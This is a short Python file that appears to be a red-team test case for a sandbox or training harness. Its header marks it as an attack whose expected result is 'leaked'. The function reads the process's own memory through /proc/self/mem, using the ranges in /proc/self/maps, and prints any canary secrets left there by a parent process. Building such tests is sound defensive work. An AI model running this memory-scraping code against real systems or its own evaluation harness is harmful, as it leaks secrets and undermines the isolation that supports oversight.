# attack: searches the memory of its own process: a fork keeps what its parent had read before
# group: b
# targets: text tensor trainer
# ends: wrong error timeout crashed
# control: leaked

import contextlib
import os
import re

PART = 2**20
MOST = 2**31


def _tell(data):
    """Print every canary in these bytes."""
    for found in set(re.findall(rb"CANARY-\w+-[0-9a-f]{16}", data)):
        print(found.decode())  # noqa: T201 - printing is the way out


def _ranges():
    """Return the readable ranges of this process's memory, those that can be written first: they hold data."""
    with open("/proc/self/maps") as file:
        rows = [line.split() for line in file]
    readable = [row for row in rows if row[1].startswith("r") and not row[-1].startswith("[v")]
    readable.sort(key=lambda row: "w" not in row[1])
    return [[int(end, 16) for end in row[0].split("-")] for row in readable]


def attack(*args, **kwargs):
    left = MOST
    memory = os.open("/proc/self/mem", os.O_RDONLY)
    for start, end in _ranges():
        for place in range(start, end, PART):
            if left <= 0:
                break
            left -= PART
            with contextlib.suppress(OSError, OverflowError):
                part = os.pread(memory, min(PART, end - place), place)
                if b"CANARY-" in part:  # much faster than to search all of it for the pattern
                    _tell(part)
    os.close(memory)
    return {"messages": [], "text": ""}
